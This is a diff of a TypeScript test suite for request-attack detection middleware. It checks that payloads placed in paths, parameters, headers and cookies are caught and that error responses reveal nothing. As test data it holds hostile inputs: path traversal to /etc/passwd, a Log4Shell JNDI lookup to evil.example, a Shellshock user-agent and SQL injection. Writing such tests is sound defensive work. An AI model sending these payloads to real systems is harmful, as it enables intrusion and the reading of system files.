@@ -10,7 +10,7 @@ describe('detection', () => {
   const places: readonly [string, string, Record<string, string>, string][] = [
     ['the path', `/files/${encodeURIComponent('../../../../etc/passwd')}`, {}, 'path'],
     ['a parameter', `/?q=${SQL}`, {}, 'query.q'],
-    ['a header', '/', { 'x-api-version': '${jndi:ldap://evil.example/a}' }, 'header.x-api-version'],
+    ['a header', '/', { 'x-api-version': `$\{jndi:ldap://evil.example/a}` }, 'header.x-api-version'],
     ['the user agent', '/', { 'user-agent': '() { :; }; /bin/cat /etc/passwd' }, 'header.user-agent'],
     ['the referer', '/', { referer: `https://shop.example/?q=${SCRIPT}` }, 'header.referer.q'],
     ['a cookie', '/', { cookie: `theme=dark; id=${SQL}` }, 'cookie.id'],
@@ -42,8 +42,9 @@ describe('detection', () => {
   it('tells the client nothing of it', async () => {
     const app = await guarded();
     const { text } = await app.get(`/?q=${SQL}`, { accept: 'application/json' });
-    assert.deepEqual(Object.keys(JSON.parse(text)).sort(), ['error', 'message']);
-    assert.ok(!text.includes('sql'));
+    const { error, message } = JSON.parse(text);
+    assert.equal(error, 'forbidden');
+    assert.doesNotMatch(`${message}`, /sql|attack|rule|quot/i);
   });
 
   it('lets visitors be', async () => {
@@ -101,7 +102,7 @@ describe('detection', () => {
       auth: { scheme: 'api-key', header: 'x-key', verify },
       detection: { ignoreHeaders: ['X-Query'] },
     });
-    const attack = "1' OR '1'='1";
+    const attack = "1'OR'1'='1";
     assert.equal((await app.get('/', { 'x-key': attack })).status, 200);
     assert.equal((await app.get('/', { 'x-key': 'a', authorization: `Basic ${attack}` })).status, 200);
     assert.equal((await app.get('/', { 'x-key': 'a', 'x-query': attack })).status, 200);
